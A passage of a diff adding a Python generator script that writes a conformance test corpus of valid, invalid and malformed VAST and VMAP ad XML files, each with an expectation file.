@@ -1,0 +1,990 @@
+#!/usr/bin/env python3
+"""Generate the shipped conformance corpus under Corpus/ from the hand-written seeds in this file.
+
+Usage:
+    python3 scripts/gen-corpus.py                  # regenerate from scripts/rule-examples.json
+    python3 scripts/gen-corpus.py --refresh-rules  # first run `swift run conform dump-rule-examples`
+    python3 scripts/gen-corpus.py --check          # exit 1 if Corpus/ differs from what would be generated
+
+The generator owns these folders of Corpus/ and rewrites them completely (stale files are removed):
+    vast/  vmap/  malformed/  hostile/  chains/  rules/
+It never touches Corpus/README.md, Corpus/params/ (parameter tables are written by hand or by
+their own generator) or any other folder, so hand-written cases live beside the generated ones.
+
+Output is deterministic: no clock, no randomness without a fixed seed, sorted JSON keys, LF line
+endings. Re-running the generator reproduces every file byte for byte.
+"""
+
+import argparse
+import json
+import os
+import random
+import shutil
+import subprocess
+import sys
+import tempfile
+
+ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
+RULE_EXAMPLES = os.path.join(ROOT, "scripts", "rule-examples.json")
+OWNED = ["vast", "vmap", "malformed", "hostile", "chains", "rules"]
+MARK = "\u2193"  # ↓ marks where a diagnostic must point (removed from the written file)
+
+VERSIONS = ["2.0", "3.0", "4.0", "4.1", "4.2", "4.3"]
+
+
+def vnum(version):
+    major, minor = version.split(".")
+    return int(major) * 10 + int(minor)
+
+
+# ---------------------------------------------------------------------------------------------
+# Output: the writer and the expectation builder
+# ---------------------------------------------------------------------------------------------
+
+class Writer:
+    def __init__(self, root):
+        self.root = root
+        self.files = {}  # relative path -> bytes
+
+    def add(self, relative, content):
+        if isinstance(content, str):
+            content = content.encode("utf-8")
+        if relative in self.files:
+            raise SystemExit(f"generator bug: {relative} written twice")
+        self.files[relative] = content
+
+    def json(self, relative, value):
+        self.add(relative, json.dumps(value, indent=2, sort_keys=True, ensure_ascii=False) + "\n")
+
+    def case(self, relative, text, expectation):
+        """Writes a document case; `text` may hold ↓ markers, whose positions fill `line`/`column`
+        of the expectation's present entries that ask for `"at": n` (the n-th marker)."""
+        clean, positions = strip_markers(text) if isinstance(text, str) else (text, [])
+        expectation = resolve_markers(expectation, positions)
+        self.add(relative, clean)
+        base = relative.rsplit(".", 1)[0]
+        self.json(base + ".expect.json", expectation)
+
+    def commit(self, check=False):
+        corpus = os.path.join(self.root, "Corpus")
+        wanted = {os.path.join(corpus, path): data for path, data in self.files.items()}
+        existing = set()
+        for folder in OWNED:
+            for dirpath, _, names in os.walk(os.path.join(corpus, folder)):
+                for name in names:
+                    existing.add(os.path.join(dirpath, name))
+        differences = []
+        for path, data in sorted(wanted.items()):
+            old = None
+            if os.path.exists(path):
+                with open(path, "rb") as handle:
+                    old = handle.read()
+            if old != data:
+                differences.append(path)
+                if not check:
+                    os.makedirs(os.path.dirname(path), exist_ok=True)
+                    with open(path, "wb") as handle:
+                        handle.write(data)
+        for path in sorted(existing - set(wanted)):
+            differences.append(path)
+            if not check:
+                os.remove(path)
+        if not check:
+            for folder in OWNED:
+                for dirpath, dirnames, names in sorted(os.walk(os.path.join(corpus, folder), topdown=False)):
+                    if not os.listdir(dirpath):
+                        os.rmdir(dirpath)
+        return differences
+
+
+def strip_markers(text):
+    positions = []
+    out = []
+    line, column = 1, 1
+    for char in text:
+        if char == MARK:
+            positions.append((line, column))
+            continue
+        out.append(char)
+        if char == "\n":
+            line, column = line + 1, 1
+        else:
+            column += 1
+    return "".join(out), positions
+
+
+def resolve_markers(expectation, positions):
+    diagnostics = expectation.get("diagnostics")
+    if not diagnostics:
+        return expectation
+    present = []
+    for entry in diagnostics.get("present", []):
+        if isinstance(entry, dict) and "at" in entry:
+            entry = dict(entry)
+            line, column = positions[entry.pop("at")]
+            entry["line"], entry["column"] = line, column
+        present.append(entry)
+    diagnostics = dict(diagnostics, present=present)
+    return dict(expectation, diagnostics=diagnostics)
+
+
+def expect(verdict=None, tags=(), description=None, present=(), absent=(), tracking=None, chain=None, limits=None):
+    value = {"version": 1}
+    if verdict:
+        value["verdict"] = verdict
+    if tags:
+        value["tags"] = sorted(set(tags))
+    if description:
+        value["description"] = description
+    if present or absent:
+        value["diagnostics"] = {}
+        if present:
+            value["diagnostics"]["present"] = list(present)
+        if absent:
+            value["diagnostics"]["absent"] = sorted(set(absent))
+    if tracking:
+        value["tracking"] = tracking
+    if chain:
+        value["chain"] = chain
+    if limits:
+        value["limits"] = limits
+    return value
+
+
+# ---------------------------------------------------------------------------------------------
+# Seeds: the building blocks of valid VAST, written out by hand
+# ---------------------------------------------------------------------------------------------
+
+DURATIONS = ["00:00:15", "00:00:30.000", "00:00:06.500", "00:01:00", "00:00:20.250", "00:00:10"]
+MEDIA_SETS = [
+    [("progressive", "video/mp4", 1280, 720, 2000, "720.mp4")],
+    [("progressive", "video/mp4", 1920, 1080, 4500, "1080.mp4"),
+     ("progressive", "video/mp4", 1280, 720, 2000, "720.mp4"),
+     ("progressive", "video/mp4", 640, 360, 700, "360.mp4")],
+    [("progressive", "video/mp4", 1280, 720, 2000, "720.mp4"),
+     ("progressive", "video/webm", 1280, 720, 1800, "720.webm")],
+    [("streaming", "application/x-mpegURL", 1920, 1080, None, "master.m3u8")],
+]
+LAYOUTS = ["pretty", "compact", "declaration", "commented"]
+
+
+class Doc:
+    """Builds a VAST document line by line with indentation, collecting tracking URLs as it goes."""
+
+    def __init__(self, version, layout, cdata, namespace):
+        self.version = version
+        self.layout = layout
+        self.cdata = cdata
+        self.namespace = namespace
+        self.lines = []
+        self.depth = 0
+        self.tracking = {}
+
+    def url(self, value, event=None):
+        if event:
+            self.tracking.setdefault(event, []).append(value)
+        return f"<![CDATA[{value}]]>" if self.cdata else value
+
+    def open(self, tag):
+        self.lines.append("  " * self.depth + tag)
+        self.depth += 1
+
+    def close(self, tag):
+        self.depth -= 1
+        self.lines.append("  " * self.depth + tag)
+
+    def leaf(self, tag):
+        self.lines.append("  " * self.depth + tag)
+
+    def text(self):
+        body = self.lines
+        if self.layout == "compact":
+            out = "".join(line.strip() for line in body)
+        else:
+            out = "\n".join(body)
+        if self.layout == "declaration":
+            out = '<?xml version="1.0" encoding="UTF-8"?>\n' + out
+        if self.layout == "commented":
+            out = "<!-- generated by scripts/gen-corpus.py -->\n" + out
+        return out + "\n"
+
+
+def root_open(doc, extra=""):
+    ns = ' xmlns="http://www.iab.com/VAST"' if doc.namespace and vnum(doc.version) >= 40 else ""
+    return f'{MARK}<VAST version="{doc.version}"{ns}{extra}>'
+
+
+def events_for(version, skippable):
+    events = ["creativeView", "start", "firstQuartile", "midpoint", "thirdQuartile", "complete", "mute", "unmute",
+              "pause", "resume"]
+    if skippable and vnum(version) >= 30:
+        events.append("skip")
+    if vnum(version) >= 41:
+        events.append("loaded")
+    return events
+
+
+def linear(doc, ad, opts):
+    v = vnum(doc.version)
+    skip = ' skipoffset="00:00:05"' if opts.get("skippable") and v >= 30 else ""
+    doc.open(f"<Linear{skip}>")
+    doc.leaf(f"<Duration>{opts['duration']}</Duration>")
+    doc.open("<TrackingEvents>")
+    for event in events_for(doc.version, opts.get("skippable")):
+        doc.leaf(f'<Tracking event="{event}">{doc.url(f"https://track.example.com/{ad}/{event}", event)}</Tracking>')
+    if v >= 30 and opts.get("progress"):
+        doc.leaf(f'<Tracking event="progress" offset="00:00:05">{doc.url(f"https://track.example.com/{ad}/progress-5", "progress")}</Tracking>')
+    doc.close("</TrackingEvents>")
+    if opts.get("adParameters"):
+        doc.leaf(f"<AdParameters><![CDATA[{{\"campaign\":\"{ad}\"}}]]></AdParameters>")
+    doc.open("<VideoClicks>")
+    doc.leaf(f'<ClickThrough id="ct-{ad}">{doc.url(f"https://landing.example.com/{ad}", "clickThrough")}</ClickThrough>')
+    doc.leaf(f'<ClickTracking id="ck-{ad}">{doc.url(f"https://track.example.com/{ad}/click", "clickTracking")}</ClickTracking>')
+    doc.close("</VideoClicks>")
+    doc.open("<MediaFiles>")
+    for delivery, mime, width, height, bitrate, name in opts["media"]:
+        rate = f' bitrate="{bitrate}"' if bitrate and v >= 30 else (f' bitrate="{bitrate}"' if bitrate else "")
+        aspect = ' maintainAspectRatio="true" scalable="true"' if opts.get("aspect") else ""
+        doc.leaf(f'<MediaFile id="mf-{name}" delivery="{delivery}" type="{mime}" width="{width}" height="{height}"{rate}{aspect}>'
+                 f'{doc.url(f"https://cdn.example.com/{ad}/{name}")}</MediaFile>')
+    if opts.get("mezzanine") and v >= 40:
+        doc.leaf(f'<Mezzanine delivery="progressive" type="video/mp4" width="1920" height="1080">'
+                 f'{doc.url(f"https://cdn.example.com/{ad}/mezzanine.mp4")}</Mezzanine>')
+    if opts.get("captions") and v >= 41:
+        doc.open("<ClosedCaptionFiles>")
+        doc.leaf(f'<ClosedCaptionFile type="text/vtt" language="en">{doc.url(f"https://cdn.example.com/{ad}/captions-en.vtt")}</ClosedCaptionFile>')
+        doc.leaf(f'<ClosedCaptionFile type="application/ttml+xml" language="fr">{doc.url(f"https://cdn.example.com/{ad}/captions-fr.ttml")}</ClosedCaptionFile>')
+        doc.close("</ClosedCaptionFiles>")
+    doc.close("</MediaFiles>")
+    if opts.get("icons") and v >= 30:
+        doc.open("<Icons>")
+        doc.open('<Icon program="AdChoices" width="60" height="20" xPosition="right" yPosition="top" duration="00:00:10" offset="00:00:01">')
+        doc.leaf(f'<StaticResource creativeType="image/png">{doc.url("https://cdn.example.com/icons/adchoices.png")}</StaticResource>')
+        doc.open("<IconClicks>")
+        doc.leaf(f'<IconClickThrough>{doc.url("https://privacy.example.com/adchoices", "iconClickThrough")}</IconClickThrough>')
+        doc.leaf(f'<IconClickTracking>{doc.url(f"https://track.example.com/{ad}/icon-click", "iconClickTracking")}</IconClickTracking>')
+        doc.close("</IconClicks>")
+        doc.leaf(f'<IconViewTracking>{doc.url(f"https://track.example.com/{ad}/icon-view", "iconViewTracking")}</IconViewTracking>')
+        doc.close("</Icon>")
+        doc.close("</Icons>")
+    doc.close("</Linear>")
+
+
+def nonlinear(doc, ad, opts):
+    v = vnum(doc.version)
+    doc.open("<NonLinearAds>")
+    doc.open("<TrackingEvents>")
+    doc.leaf(f'<Tracking event="creativeView">{doc.url(f"https://track.example.com/{ad}/nl-view", "nonLinear:creativeView")}</Tracking>')
+    doc.close("</TrackingEvents>")
+    doc.open('<NonLinear id="nl-1" width="480" height="70" minSuggestedDuration="00:00:10">')
+    doc.leaf(f'<StaticResource creativeType="image/png">{doc.url(f"https://cdn.example.com/{ad}/overlay.png")}</StaticResource>')
+    doc.leaf(f"<NonLinearClickThrough>{doc.url(f'https://landing.example.com/{ad}/overlay')}</NonLinearClickThrough>")
+    if v >= 30:
+        doc.leaf(f'<NonLinearClickTracking id="nlc-1">{doc.url(f"https://track.example.com/{ad}/nl-click", "nonLinearClickTracking")}</NonLinearClickTracking>')
+    doc.close("</NonLinear>")
+    doc.close("</NonLinearAds>")
+
+
+def companions(doc, ad, opts):
+    v = vnum(doc.version)
+    required = ' required="any"' if v >= 30 else ""
+    doc.open(f"<CompanionAds{required}>")
+    sizes = [(300, 250, "StaticResource", "image/jpeg", "mpu.jpg"), (728, 90, "IFrameResource", None, "leaderboard.html")]
+    for index, (width, height, kind, mime, name) in enumerate(sizes[: opts.get("companions", 1)]):
+        doc.open(f'<Companion id="cp-{index + 1}" width="{width}" height="{height}">')
+        if kind == "StaticResource":
+            doc.leaf(f'<StaticResource creativeType="{mime}">{doc.url(f"https://cdn.example.com/{ad}/{name}")}</StaticResource>')
+        else:
+            doc.leaf(f"<IFrameResource>{doc.url(f'https://cdn.example.com/{ad}/{name}')}</IFrameResource>")
+        doc.open("<TrackingEvents>")
+        doc.leaf(f'<Tracking event="creativeView">{doc.url(f"https://track.example.com/{ad}/cp{index + 1}-view", "companion:creativeView")}</Tracking>')
+        doc.close("</TrackingEvents>")
+        doc.leaf(f"<CompanionClickThrough>{doc.url(f'https://landing.example.com/{ad}/companion-{index + 1}', 'companionClickThrough')}</CompanionClickThrough>")
+        if v >= 30:
+            doc.leaf(f'<CompanionClickTracking id="cpc-{index + 1}">{doc.url(f"https://track.example.com/{ad}/cp{index + 1}-click", "companionClickTracking")}</CompanionClickTracking>')
+        doc.close("</Companion>")
+    doc.close("</CompanionAds>")
+
+
+def creative(doc, ad, index, body, opts):
+    v = vnum(doc.version)
+    doc.open(f'<Creative id="cr-{ad}-{index}" adId="ad-{ad}-{index}" sequence="{index}">')
+    if v >= 40:
+        id_value = f' idValue="CNF{index:04d}"' if v == 40 else ""
+        doc.leaf(f'<UniversalAdId idRegistry="Ad-ID"{id_value}>CNF-{ad}-{index}</UniversalAdId>')
+    body(doc, ad, opts)
+    doc.close("</Creative>")
+
+
+def inline_ad(doc, ad, creatives, opts, sequence=None, marker_adsystem=False, drop_adsystem=False):
+    v = vnum(doc.version)
+    seq = f' sequence="{sequence}"' if sequence is not None else ""
+    doc.open(f'<Ad id="{ad}"{seq}>')
+    doc.open(f"{MARK if marker_adsystem else ''}<InLine>")
+    if not drop_adsystem:
+        doc.leaf('<AdSystem version="2.1">Conform Ad Server</AdSystem>')
+    doc.leaf(f"<AdTitle>Spring campaign {ad}</AdTitle>")
+    if opts.get("description"):
+        doc.leaf("<Description>Fifteen seconds about the spring collection</Description>")
+    if opts.get("advertiser") and v >= 41:
+        doc.leaf('<Advertiser id="adv-1">Example Outfitters</Advertiser>')
+    if opts.get("pricing") and v >= 30:
+        doc.leaf('<Pricing model="cpm" currency="USD"><![CDATA[12.50]]></Pricing>')
+    doc.leaf(f"<Error>{doc.url(f'https://errors.example.com/{ad}?code=[ERRORCODE]', 'error')}</Error>")
+    doc.leaf(f'<Impression id="imp-{ad}">{doc.url(f"https://track.example.com/{ad}/impression", "impression")}</Impression>')
+    if opts.get("secondImpression"):
+        doc.leaf(f'<Impression id="imp2-{ad}">{doc.url(f"https://audit.example.net/{ad}/impression", "impression")}</Impression>')
+    if v >= 41:
+        doc.leaf(f"<AdServingId>serve-{ad}-0001</AdServingId>")
+    if opts.get("category") and v >= 41:
+        doc.leaf('<Category authority="https://iabtechlab.com/standards/content-taxonomy/">IAB1-1</Category>')
+    if opts.get("viewable") and v >= 40:
+        doc.open('<ViewableImpression id="vi-1">')
+        doc.leaf(f"<Viewable>{doc.url(f'https://track.example.com/{ad}/viewable', 'viewable')}</Viewable>")
+        doc.leaf(f"<NotViewable>{doc.url(f'https://track.example.com/{ad}/not-viewable', 'notViewable')}</NotViewable>")
+        doc.close("</ViewableImpression>")
+    if opts.get("verification") and v >= 41:
+        doc.open("<AdVerifications>")
+        doc.open('<Verification vendor="verifier.example.com-omid">')
+        doc.leaf(f'<JavaScriptResource apiFramework="omid" browserOptional="true">{doc.url("https://verify.example.com/omid.js")}</JavaScriptResource>')
+        doc.leaf("<VerificationParameters><![CDATA[{\"pid\":\"1234\"}]]></VerificationParameters>")
+        doc.close("</Verification>")
+        doc.close("</AdVerifications>")
+    doc.open("<Creatives>")
+    for index, body in enumerate(creatives, start=1):
+        creative(doc, ad, index, body, opts)
+    doc.close("</Creatives>")
+    if opts.get("extensions"):
+        doc.open("<Extensions>")
+        doc.leaf('<Extension type="campaign"><CampaignId>spring-2026</CampaignId></Extension>')
+        doc.close("</Extensions>")
+    doc.close("</InLine>")
+    doc.close("</Ad>")
+
+
+FAMILIES = {
+    # name: (minimum version, creatives, option overrides, ads in the response)
+    "linear": (20, [linear], {}, 1),
+    "linear-skippable": (30, [linear], {"skippable": True, "progress": True}, 1),
+    "linear-icons": (30, [linear], {"icons": True}, 1),
+    "linear-mezzanine": (40, [linear], {"mezzanine": True}, 1),
+    "linear-closed-captions": (41, [linear], {"captions": True}, 1),
+    "linear-verification": (41, [linear], {"verification": True}, 1),
+    "linear-viewable": (40, [linear], {"viewable": True}, 1),
+    "linear-companions": (20, [linear, companions], {"companions": 2}, 1),
+    "nonlinear": (20, [nonlinear], {}, 1),
+    "nonlinear-companion": (20, [nonlinear, companions], {}, 1),
+    "companion-only": (20, [linear, companions], {"companions": 1}, 1),
+    "pod": (30, [linear], {}, 3),
+    "pod-companions": (30, [linear, companions], {}, 2),
+    "full": (41, [linear, companions], {"skippable": True, "progress": True, "icons": True, "mezzanine": True,
+                                        "captions": True, "verification": True, "viewable": True, "pricing": True,
+                                        "category": True, "advertiser": True, "extensions": True, "description": True,
+                                        "companions": 2}, 1),
+}
+
+
+def variant_options(index):
+    return {
+        "layout": LAYOUTS[index % len(LAYOUTS)],
+        "cdata": (index // len(LAYOUTS)) % 3 != 2,
+        "namespace": index % 2 == 1,
+        "duration": DURATIONS[index % len(DURATIONS)],
+        "media": MEDIA_SETS[(index // 2) % len(MEDIA_SETS)],
+        "secondImpression": index % 3 == 0,
+        "description": index % 5 == 0,
+        "pricing": index % 4 == 1,
+        "adParameters": index % 6 == 5,
+        "aspect": index % 7 == 3,
+        "extensions": index % 5 == 2,
+    }
+
+
+def build(version, family, index, mutation=None):
+    minimum, bodies, overrides, ads = FAMILIES[family]
+    opts = variant_options(index)
+    opts.update(overrides)
+    doc = Doc(version, opts["layout"], opts["cdata"], opts["namespace"])
+    extra = ""
+    root = root_open(doc, extra)
+    if mutation == "no-version":
+        root = root.replace(f' version="{version}"', "")
+    doc.open(root)
+    for number in range(1, ads + 1):
+        ad = f"{family}-{index:02d}-{number}" if ads > 1 else f"{family}-{index:02d}"
+        inline_ad(doc, ad, bodies, opts, sequence=number if ads > 1 else None,
+                  marker_adsystem=(mutation == "no-adsystem" and number == 1),
+                  drop_adsystem=(mutation == "no-adsystem" and number == 1))
+    doc.close("</VAST>")
+    return doc
+
+
+PINNED_EVENTS = ["impression", "error", "clickThrough", "clickTracking", "start", "complete", "skip",
+                 "companion:creativeView", "nonLinear:creativeView", "iconClickTracking", "viewable"]
+
+
+def generate_vast(writer, per_family):
+    count = 0
+    for version in VERSIONS:
+        for family, (minimum, _, _, _) in sorted(FAMILIES.items()):
+            if vnum(version) < minimum:
+                continue
+            for index in range(per_family):
+                doc = build(version, family, index)
+                tracking = {event: doc.tracking[event] for event in PINNED_EVENTS if event in doc.tracking}
+                text = doc.text().replace(MARK, "")
+                writer.case(f"vast/{version}/{family}/valid-{index:02d}.xml", text, expect(
+                    "valid", tags=["generated", "valid", f"vast-{version}", family],
+                    description=f"a valid VAST {version} {family} response ({doc.layout} layout)",
+                    absent=["XML-not-well-formed", "VAST-2.0-inline-adsystem", "VAST-2.0-root-version"],
+                    tracking=tracking))
+                count += 1
+            # Mutations of the same seeds: each breaks one required part and must be reported there.
+            for index in range(min(3, per_family)):
+                doc = build(version, family, index, mutation="no-adsystem")
+                writer.case(f"vast/{version}/{family}/invalid-no-adsystem-{index:02d}.xml", doc.text(), expect(
+                    "invalid", tags=["generated", "invalid", f"vast-{version}", family],
+                    description="the first <InLine> lacks its required <AdSystem>",
+                    present=[{"rule": "VAST-2.0-inline-adsystem", "at": 1}],
+                    absent=["XML-not-well-formed", "VAST-2.0-root-version"]))
+                doc = build(version, family, index, mutation="no-version")
+                writer.case(f"vast/{version}/{family}/invalid-no-version-{index:02d}.xml", doc.text(), expect(
+                    "invalid", tags=["generated", "invalid", f"vast-{version}", family],
+                    description="the <VAST> root has no version attribute",
+                    present=[{"rule": "VAST-2.0-root-version", "at": 0}],
+                    absent=["XML-not-well-formed", "VAST-2.0-inline-adsystem"]))
+                count += 2
+    return count
+
+
+def generate_wrappers(writer, per_version):
+    """Single Wrapper documents (valid on their own; chains are in chains/)."""
+    count = 0
+    for version in VERSIONS:
+        v = vnum(version)
+        for index in range(per_version):
+            doc = Doc(version, LAYOUTS[index % 4], index % 3 != 2, index % 2 == 1)
+            doc.open(root_open(doc))
+            attrs = ' followAdditionalWrappers="true" allowMultipleAds="false" fallbackOnNoAd="true"' if v >= 30 and index % 2 else ""
+            ad = f"wrapper-{index:02d}"
+            doc.open(f'<Ad id="{ad}">')
+            doc.open(f"<Wrapper{attrs}>")
+            doc.leaf('<AdSystem version="1.0">Conform Exchange</AdSystem>')
+            doc.leaf(f"<VASTAdTagURI>{doc.url(f'https://ads.example.com/vast/{ad}.xml')}</VASTAdTagURI>")
+            doc.leaf(f"<Error>{doc.url(f'https://errors.example.com/{ad}?code=[ERRORCODE]', 'error')}</Error>")
+            doc.leaf(f"<Impression>{doc.url(f'https://track.example.com/{ad}/impression', 'impression')}</Impression>")
+            doc.open("<Creatives>")
+            if index % 2 == 0:
+                doc.open(f'<Creative id="wc-{index}">')
+                doc.open("<Linear>")
+                doc.open("<TrackingEvents>")
+                doc.leaf(f'<Tracking event="start">{doc.url(f"https://track.example.com/{ad}/start", "start")}</Tracking>')
+                doc.leaf(f'<Tracking event="complete">{doc.url(f"https://track.example.com/{ad}/complete", "complete")}</Tracking>')
+                doc.close("</TrackingEvents>")
+                doc.open("<VideoClicks>")
+                doc.leaf(f"<ClickTracking>{doc.url(f'https://track.example.com/{ad}/click', 'clickTracking')}</ClickTracking>")
+                doc.close("</VideoClicks>")
+                doc.close("</Linear>")
+                doc.close("</Creative>")
+            doc.close("</Creatives>")
+            doc.close("</Wrapper>")
+            doc.close("</Ad>")
+            doc.close("</VAST>")
+            tracking = {event: doc.tracking[event] for event in PINNED_EVENTS if event in doc.tracking}
+            writer.case(f"vast/{version}/wrapper/valid-{index:02d}.xml", doc.text().replace(MARK, ""), expect(
+                "valid", tags=["generated", "valid", f"vast-{version}", "wrapper"],
+                description=f"a valid VAST {version} Wrapper response on its own", tracking=tracking,
+                absent=["XML-not-well-formed", "VAST-2.0-inline-adsystem", "VAST-2.0-root-version"]))
+            count += 1
+        # An empty response (no ad) is valid: VAST 3.0+ may carry an <Error> pixel instead.
+        if v >= 30:
+            doc = Doc(version, "pretty", True, False)
+            doc.open(root_open(doc))
+            doc.leaf(f"<Error>{doc.url('https://errors.example.com/no-ad?code=303', 'error')}</Error>")
+            doc.close("</VAST>")
+            writer.case(f"vast/{version}/no-ad/error-only.xml", doc.text().replace(MARK, ""), expect(
+                "valid", tags=["generated", "valid", f"vast-{version}", "no-ad"],
+                description="a no-ad response with only an <Error> pixel",
+                tracking={"error": ["https://errors.example.com/no-ad?code=303"]}))
+            count += 1
+    return count
+
+
+# ---------------------------------------------------------------------------------------------
+# VMAP
+# ---------------------------------------------------------------------------------------------
+
+TIME_OFFSETS = ["start", "00:00:15.000", "00:10:00.000", "50%", "#1", "end", "00:30:00", "25%"]
+
+
+def vmap_document(index, inline_vast):
+    prefix = "vmap"
+    breaks = 1 + index % 4
+    lines = ['<?xml version="1.0" encoding="UTF-8"?>' if index % 2 == 0 else "<!-- VMAP playlist -->",
+             f'<{prefix}:VMAP xmlns:{prefix}="http://www.iab.net/videosuite/vmap" version="1.0">']
+    for number in range(breaks):
+        offset = TIME_OFFSETS[(index + number) % len(TIME_OFFSETS)]
+        kind = "linear" if (index + number) % 3 else "linear,nonlinear"
+        repeat = ' repeatAfter="00:10:00"' if offset == "00:10:00.000" and index % 2 else ""
+        lines.append(f'  <{prefix}:AdBreak timeOffset="{offset}" breakType="{kind}" breakId="break-{number + 1}"{repeat}>')
+        lines.append(f'    <{prefix}:AdSource id="source-{number + 1}" allowMultipleAds="true" followRedirects="true">')
+        if inline_vast and number == 0:
+            lines.append(f"      <{prefix}:VASTAdData>")
+            lines.append('        <VAST version="3.0">')
+            lines.append('          <Ad id="vmap-inline">')
+            lines.append("            <InLine>")
+            lines.append("              <AdSystem>Conform Ad Server</AdSystem>")
+            lines.append("              <AdTitle>Embedded pre-roll</AdTitle>")
+            lines.append("              <Impression><![CDATA[https://track.example.com/vmap/impression]]></Impression>")
+            lines.append("              <Creatives>")
+            lines.append("                <Creative>")
+            lines.append("                  <Linear>")
+            lines.append("                    <Duration>00:00:15</Duration>")
+            lines.append("                    <MediaFiles>")
+            lines.append('                      <MediaFile delivery="progressive" type="video/mp4" width="1280" height="720"><![CDATA[https://cdn.example.com/vmap/720.mp4]]></MediaFile>')
+            lines.append("                    </MediaFiles>")
+            lines.append("                  </Linear>")
+            lines.append("                </Creative>")
+            lines.append("              </Creatives>")
+            lines.append("            </InLine>")
+            lines.append("          </Ad>")
+            lines.append("        </VAST>")
+            lines.append(f"      </{prefix}:VASTAdData>")
+        else:
+            lines.append(f'      <{prefix}:AdTagURI templateType="vast3"><![CDATA[https://ads.example.com/vmap/{index}/break-{number + 1}.xml]]></{prefix}:AdTagURI>')
+        lines.append(f"    </{prefix}:AdSource>")
+        if index % 3 == 0:
+            lines.append(f"    <{prefix}:TrackingEvents>")
+            lines.append(f'      <{prefix}:Tracking event="breakStart"><![CDATA[https://track.example.com/vmap/{index}/break-{number + 1}/start]]></{prefix}:Tracking>')
+            lines.append(f"    </{prefix}:TrackingEvents>")
+        lines.append(f"  </{prefix}:AdBreak>")
+    lines.append(f"</{prefix}:VMAP>")
+    return "\n".join(lines) + "\n"
+
+
+def generate_vmap(writer, count):
+    for index in range(count):
+        inline = index % 4 == 3
+        writer.case(f"vmap/valid/playlist-{index:03d}.xml", vmap_document(index, inline), expect(
+            "valid", tags=["generated", "valid", "vmap"],
+            description="a valid VMAP 1.0 playlist" + (" with an embedded VAST ad" if inline else ""),
+            absent=["XML-not-well-formed", "VMAP-1.0-namespace", "VMAP-1.0-timeoffset-format"]))
+    bad_offsets = ["10 seconds", "00:00:75", "150%", "#0", "-00:00:05", "start+5", "00:00", "1:2:3"]
+    for index, offset in enumerate(bad_offsets):
+        text = (f'<vmap:VMAP xmlns:vmap="http://www.iab.net/videosuite/vmap" version="1.0">\n'
+                f'  {MARK}<vmap:AdBreak timeOffset="{offset}" breakType="linear" breakId="b1">\n'
+                f'    <vmap:AdSource id="s1"><vmap:AdTagURI templateType="vast3"><![CDATA[https://ads.example.com/b1.xml]]></vmap:AdTagURI></vmap:AdSource>\n'
+                f"  </vmap:AdBreak>\n</vmap:VMAP>\n")
+        writer.case(f"vmap/invalid/timeoffset-{index:02d}.xml", text, expect(
+            tags=["generated", "invalid", "vmap"], description=f"timeOffset '{offset}' is not a VMAP time offset",
+            present=["VMAP-1.0-timeoffset-format"]))
+    text = ('<vmap:VMAP xmlns:vmap="http://www.example.com/not-vmap" version="1.0">\n  <vmap:AdBreak timeOffset="start" breakType="linear">\n'
+            '    <vmap:AdSource><vmap:AdTagURI templateType="vast3"><![CDATA[https://ads.example.com/b1.xml]]></vmap:AdTagURI></vmap:AdSource>\n'
+            "  </vmap:AdBreak>\n</vmap:VMAP>\n")
+    writer.case("vmap/invalid/wrong-namespace.xml", text, expect(
+        tags=["generated", "invalid", "vmap"], description="the vmap: prefix is bound to another namespace",
+        present=["VMAP-1.0-namespace"]))
+    return count + len(bad_offsets) + 1
+
+
+# ---------------------------------------------------------------------------------------------
+# Malformed XML: at least 40 kinds, each in a few contexts
+# ---------------------------------------------------------------------------------------------
+
+GOOD_HEAD = '<VAST version="4.2">\n  <Ad id="1">\n    <InLine>\n      <AdSystem>x</AdSystem>\n'
+GOOD_TAIL = "    </InLine>\n  </Ad>\n</VAST>\n"
+
+MALFORMED = [
+    # name, bytes, description
+    ("truncated-in-tag", GOOD_HEAD + "      <AdTi", "input ends inside a start tag"),
+    ("truncated-in-attribute", '<VAST version="4.', "input ends inside an attribute value"),
+    ("truncated-in-cdata", GOOD_HEAD + "      <Impression><![CDATA[https://t.example.com/i", "input ends inside a CDATA section"),
+    ("truncated-in-comment", GOOD_HEAD + "      <!-- a comment that never", "input ends inside a comment"),
+    ("truncated-after-root-start", '<VAST version="4.2">', "only the root start tag"),
+    ("truncated-half-document", GOOD_HEAD, "the document stops half way"),
+    ("mismatched-end-tag", GOOD_HEAD + "      <AdTitle>t</AdTitel>\n" + GOOD_TAIL, "an end tag names another element"),
+    ("crossed-nesting", '<VAST version="4.2"><Ad><InLine></Ad></InLine></VAST>\n', "elements closed in the wrong order"),
+    ("unclosed-root", '<VAST version="4.2">\n  <Ad id="1"/>\n', "the root element is never closed"),
+    ("two-roots", '<VAST version="4.2"/>\n<VAST version="4.2"/>\n', "two root elements"),
+    ("trailing-garbage-text", '<VAST version="4.2"/>\ntrailing text\n', "text after the root element"),
+    ("trailing-garbage-markup", '<VAST version="4.2"/>\n<junk>\n', "markup after the root element"),
+    ("nul-in-content", b'<VAST version="4.2">\x00</VAST>\n', "a NUL byte inside an element"),
+    ("unquoted-attribute", "<VAST version=4.2></VAST>\n", "an attribute value without quotes"),
+    ("duplicate-attribute", '<VAST version="4.2" version="4.1"></VAST>\n', "the same attribute twice"),
+    ("attribute-without-value", "<VAST version></VAST>\n", "an attribute without a value"),
+    ("attribute-missing-space", '<VAST version="4.2"xmlns="http://www.iab.com/VAST"></VAST>\n', "attributes not separated by whitespace"),
+    ("less-than-in-attribute", '<VAST version="4<2"></VAST>\n', "a raw '<' in an attribute value"),
+    ("ampersand-in-text", GOOD_HEAD + "      <Impression>https://t.example.com/i?a=1&b=2</Impression>\n" + GOOD_TAIL, "an unescaped '&' in a URL outside CDATA"),
+    ("ampersand-in-attribute", '<VAST version="4.2" id="a&b"></VAST>\n', "an unescaped '&' in an attribute"),
+    ("undefined-entity", GOOD_HEAD + "      <AdTitle>&nbsp;Sale</AdTitle>\n" + GOOD_TAIL, "an HTML entity XML does not define"),
+    ("char-ref-zero", '<VAST version="4.2">&#0;</VAST>\n', "a character reference to U+0000"),
+    ("char-ref-out-of-range", '<VAST version="4.2">&#x110000;</VAST>\n', "a character reference beyond U+10FFFF"),
+    ("char-ref-surrogate", '<VAST version="4.2">&#xD800;</VAST>\n', "a character reference to a surrogate"),
+    ("invalid-utf8", b'<VAST version="4.2"><Ad><InLine><AdTitle>caf\xe9</AdTitle></InLine></Ad></VAST>\n', "Latin-1 bytes in a UTF-8 document"),
